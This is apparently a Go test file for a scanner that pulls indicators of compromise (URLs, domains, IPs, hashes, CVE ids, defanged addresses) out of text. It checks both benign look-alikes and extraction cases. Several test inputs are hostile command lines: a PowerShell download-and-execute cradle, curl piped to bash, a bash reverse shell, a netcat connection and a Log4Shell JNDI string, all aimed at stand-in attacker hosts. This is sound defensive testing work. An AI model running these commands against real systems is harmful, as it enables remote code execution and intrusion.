package engine

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func scanned(text string) []string {
	got := []string{}
	scan(text, func(_ string, t Type, value string, _ error) verdict {
		got = append(got, string(t)+" "+value)
		return kept
	})
	return got
}

// lookAlikes are texts in which there is no indicator.
var lookAlikes = strings.Split(strings.TrimSpace(`
C:\Windows\System32\cmd.exe /c whoami
C:\\Users\\anna\\Downloads\\setup.com /S
/usr/bin/python3 /opt/app/main.py --port 8080
bash install.sh
./configure.sh && make
perl -w cleanup.pl
ruby tool.rb
node app.js
import React from 'react.js'
rustc main.rs -o main
cat README.md
ld: cannot find libcrypto.so.1.1
loading libssl.so
/lib/x86_64-linux-gnu/libc.so.6
unzip archive.zip
tar xf backup.tar.gz
Safari.app crashed
open -a Terminal.app
QuickTime movie.mov
terraform apply main.tf
make -f build.mk
autoconf configure.ac
automake Makefile.am
config.in
libtool libfoo.la
id_rsa.pub
jquery.min.map
printer driver.cat
rundll32.exe shell32.dll,Control_RunDLL
regsvr32 /s /u scrobj.dll
msiexec /i package.msi
systemctl restart nginx.service
systemd[1]: Started cron.service.
user@1000.service: Succeeded
getty@tty1.service
dbus-org.freedesktop.hostname1.service
wazuh-agent.service
java.util.concurrent.ExecutionException
java.io.IOException: Broken pipe
java.net.SocketException
javax.net.ssl.SSLHandshakeException
org.apache.catalina.core.StandardWrapperValve
org.springframework.web.servlet.DispatcherServlet
com.sun.jndi.ldap.object.trustURLCodebase
com.android.vending
io.netty.channel.AbstractChannel
net.minecraft.server
sun.misc.Unsafe
System.Net.WebClient
[System.Net.Dns]::GetHostName()
[System.IO.File]::ReadAllText($path)
New-Object System.Net.Sockets.TcpClient
System.Management.Automation
System.Security.Cryptography
System.Windows.Media
System.Data.Services
Microsoft.Net
Microsoft.PowerShell.Utility
Microsoft.Win32.Registry
Newtonsoft.Json.Linq
ASP.NET
System.Net
$obj.name
$env.path
$_.id
$client.host = 1
this.name
self.app
window.location
document.link
obj.map(x => x)
fs.open("x")
console.log("x")
Math.random()
process.env
process.id
os.name=Linux
user.name=root
host.name
file.open
socket.io
e.target.value
node.style
item.date
img.link
array.map
exports.run
sys.path.append
string.format("x")
requests.get(url)
foo.bar()
config.app
app.run
json.dumps
Chrome/120.0.0.0 Safari/537.36
Mozilla/5.0 (Windows NT 10.0; Win64; x64)
Firefox/8.8.8.8
version 5.2.1.4
Version: 12.4.5.6
version="8.9.10.11"
v1.22.33.44
ver 8.0.4.1
build 9.1.2.3
openssl-1.1.1.1
libfoo-8.8.4.4
kernel 5.10.0-8
4.19.0-21-amd64
10.0.19041.1
6.1.7601.24000
nginx/1.18.0
python3.11
glibc 2.31
sudo 1.9.5p2
1.3.6.1.4.1.311
OID 1.3.6.1
OID 2.5.29.15
2.5.4.3
release 8.7.6.5
8.7.6.5-r0
12:34:56
2026-10-05 08:10:01
08:10:01.123
00:1a:2b:3c:4d:5e
00-1a-2b-3c-4d-5e
std::string
Face::Add
a::b::c
::1
fe80::1
127.0.0.1
0.0.0.0:445
10.1.2.3
192.168.1.1:443
172.16.0.9
169.254.169.254
224.0.0.251
255.255.255.255
550e8400-e29b-41d4-a716-446655440000
{6d809377-6af0-444b-8957-a3773f02200e}
commit 3f786850e387550fdab836ed7e6dc881de23001b
git checkout tree 3f786850e387550fdab836ed7e6dc881de23001b
object id:3f786850e387550fdab836ed7e6dc881de23001b
session id: 0123456789abcdef0123456789abcdef
00000000000000000000000000000000
11111111111111111111111111111111
aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
d41d8cd98f00b204e9800998ecf8427e
0x7ffe12345678abcd
S-1-5-21-3623811015-3361044348-30300820-1013
HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run
HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services\evil.com
CORP.EXAMPLE\anna
NT AUTHORITY\SYSTEM
anna@localhost
root@web-01
@types/node@1.2.3
lodash@4.17.21
@app.route
a@b
git@host:repo
--output=json
-Djava.security.manager
-Dlog4j2.formatMsgNoLookups=true
file:///etc/passwd
chrome://settings
javascript:alert(1)
about:blank
C:\inetpub\wwwroot\evil.com\index.asp
/var/www/shop.example.com/index.php
/etc/nginx/sites-enabled/www.site.org
/home/anna/.config/some.app/file
~/Library/Caches/com.apple.Safari
tree.com
format.com C:
more.com < x
1.5 GB of 2.0 GB
95.5%
3.14159
e.g. this
i.e. that
failed.It was not found
done.In the end
Inc.To be continued
foo...bar
...
a.b
x.y.z
1.2.3
N/A
null
-
http://
://x
https:///
www
localhost:8080
key=value;other=thing
SELECT name.id FROM users
uid=0(root) gid=0(root)
pam_unix(sshd:session): session opened
Accepted publickey for anna
type=SYSCALL msg=audit(1791187801.120:118): arch=c000003e
`), "\n")

func TestScanLookAlikes(t *testing.T) {
	if len(lookAlikes) < 150 {
		t.Errorf("only %d look-alikes", len(lookAlikes))
	}
	for _, text := range lookAlikes {
		for _, around := range []string{"%s", "run %s now", `"%s"`} {
			if got := scanned(fmt.Sprintf(around, text)); len(got) > 0 {
				t.Errorf("%s: found %q", fmt.Sprintf(around, text), got)
			}
		}
	}
}

func TestScan(t *testing.T) {
	const (
		md5    = "0123456789abcdef0123456789abcdef"
		sha1   = md5 + "01234567"
		sha256 = md5 + md5
	)
	for _, tt := range []struct {
		text string
		want []string
	}{
		{`powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://gate.bad-cdn.example/a.ps1')"`, []string{"url http://gate.bad-cdn.example/a.ps1"}},
		{`curl -s https://192.31.196.66:8443/x.sh|bash`, []string{"url https://192.31.196.66:8443/x.sh"}},
		{`curl evil.example/x.sh`, []string{"domain evil.example"}},
		{`wget http://a.example/1,http://b.example/2;http://c.example/3`, []string{"url http://a.example/1", "url http://b.example/2", "url http://c.example/3"}},
		{`see hxxp://bad[.]example/in.php and hxxps[:]//c2(.)bad[dot]example.`, []string{"url http://bad.example/in.php", "url https://c2.bad.example"}},
		{`mail from admin[@]bad[.]example`, []string{"email admin@bad.example"}},
		{`192[.]31[.]196[.]66 and 2620:4f:8000::bad`, []string{"ip-dst 192.31.196.66", "ip-dst 2620:4f:8000::bad"}},
		{`connect to [2620:4f:8000::bad]:443`, []string{"ip-dst 2620:4f:8000::bad"}},
		{`bash -i >& /dev/tcp/192.31.196.66/4444 0>&1`, []string{}},
		{`nc 192.31.196.66 4444`, []string{"ip-dst 192.31.196.66"}},
		{`connection from 192.31.196.66:51234 closed.`, []string{"ip-dst 192.31.196.66"}},
		{`login denied from (192.31.196.66)`, []string{"ip-dst 192.31.196.66"}},
		{`src=192.31.196.66,dst=10.0.0.1`, []string{"ip-dst 192.31.196.66"}},
		{`\\files.bad.example\share\a.exe`, []string{"hostname files.bad.example"}},
		{`\\192.31.196.66\c$`, []string{"ip-dst 192.31.196.66"}},
		{`(http://bad.example/a_(b)).`, []string{"url http://bad.example/a_(b)"}},
		{`<a href="http:\/\/bad.example\/x">`, []string{"url http://bad.example/x"}},
		{`${jndi:ldap://c2.bad.example:1389/a}`, []string{"url ldap://c2.bad.example:1389/a"}},
		{`nslookup evil-update.ru`, []string{"domain evil-update.ru"}},
		{`ping c2.attacker.xyz`, []string{"hostname c2.attacker.xyz"}},
		{`ssh root@gate.bad-cdn.example`, []string{"email root@gate.bad-cdn.example"}},
		{`scp x root@gate.bad-cdn.example:/tmp`, []string{"email root@gate.bad-cdn.example"}},
		{`host:port gate.bad-cdn.example:8080`, []string{"hostname gate.bad-cdn.example"}},
		{`nameserver www.evil.pl`, []string{"hostname www.evil.pl"}},
		{`dig evil-site.online`, []string{"domain evil-site.online"}},
		{`dig bücher.example`, []string{"domain xn--bcher-kva.example"}},
		{`BAD.EXAMPLE`, []string{"domain bad.example"}},
		{`MD5=` + md5 + `,SHA256=` + strings.ToUpper(sha256), []string{"md5 " + md5, "sha256 " + sha256}},
		{`image sha256:` + sha256, []string{"sha256 " + sha256}},
		{`sample ` + sha1 + `.`, []string{"sha1 " + sha1}},
		{`exploits CVE-2021-44228, cve-2022-0001`, []string{"vulnerability CVE-2021-44228", "vulnerability CVE-2022-0001"}},
		{`http://bad.example http://bad.example`, []string{"url http://bad.example"}},
		{`tcp://192.31.196.66:53`, []string{"url tcp://192.31.196.66:53"}},
		{"http://bad.example/\u201d", []string{"url http://bad.example"}},
		{``, []string{}},
	} {
		if diff := cmp.Diff(tt.want, scanned(tt.text)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.text, diff)
		}
	}
}

// TestScanIsBounded scans texts that are longer, and hold more, than is looked at.
func TestScanIsBounded(t *testing.T) {
	var b strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&b, "http://h%d.bad.example/ ", i)
	}
	if got := scanned(b.String()); len(got) != maxFound {
		t.Errorf("%d values", len(got))
	}
	const bad = " http://bad.example/ "
	for name, tt := range map[string]struct {
		text   string
		found  bool
		unread int
	}{
		"just within":         {strings.Repeat(" ", maxScan-len(bad)) + bad, true, 0},
		"in the middle":       {strings.Repeat(" ", maxScan) + bad + strings.Repeat(" ", maxScan), false, maxScan + len(bad) + 1},
		"at the beginning":    {bad + strings.Repeat(" ", 2*maxScan), true, maxScan + len(bad) + 1},
		"at the end":          {strings.Repeat(" ", 2*maxScan) + bad, true, maxScan + len(bad) + 1},
		"across the cut":      {strings.Repeat("-", maxScan/2-10) + bad + strings.Repeat("-", maxScan), false, maxScan/2 + 21},
		"across the 2nd cut":  {strings.Repeat("-", maxScan) + bad + strings.Repeat("-", maxScan/2-10), false, maxScan/2 + 20},
		"no blanks, the end":  {strings.Repeat("-", 2*maxScan) + "=http://bad.example/", true, maxScan + len(bad) - 1},
		"no blanks, the head": {"http://bad.example/=" + strings.Repeat("<", 2*maxScan), true, maxScan + len(bad) - 1},
	} {
		found := false
		s := scan(tt.text, func(_ string, _ Type, value string, _ error) verdict {
			found = found || value == "http://bad.example" || value == "http://bad.example/="
			return kept
		})
		if found != tt.found || s.unread != tt.unread {
			t.Errorf("%s: found %t, %d bytes unread; want %t, %d", name, found, s.unread, tt.found, tt.unread)
		}
	}
	for _, text := range []string{strings.Repeat("[", maxScan), strings.Repeat("a.", maxScan), strings.Repeat("http://", 9000), strings.Repeat("a@", 30000), strings.Repeat(":", maxScan)} {
		scanned(text)
	}
}

func FuzzScan(f *testing.F) {
	for _, text := range lookAlikes[:20] {
		f.Add(text)
	}
	f.Add("\u2001@0.BA") // a blank that is no letter of a name
	f.Add("hXXp.aZ")     // a name, and not the scheme of a URL
	f.Add(`hxxp://bad[.]example/in.php \\192.31.196.66\c$ [2620:4f:8000::bad]:443`)
	f.Fuzz(func(t *testing.T, text string) {
		n := 0
		scan(text, func(candidate string, typ Type, value string, err error) verdict {
			n++
			if normal, nerr := typ.Normal(value); err != nil || nerr != nil || normal != value {
				t.Errorf("%q: %s %q is not in normal form: %q, %v", text, typ, value, normal, nerr)
			}
			return kept
		})
		if n > maxFound {
			t.Errorf("%d values", n)
		}
	})
}
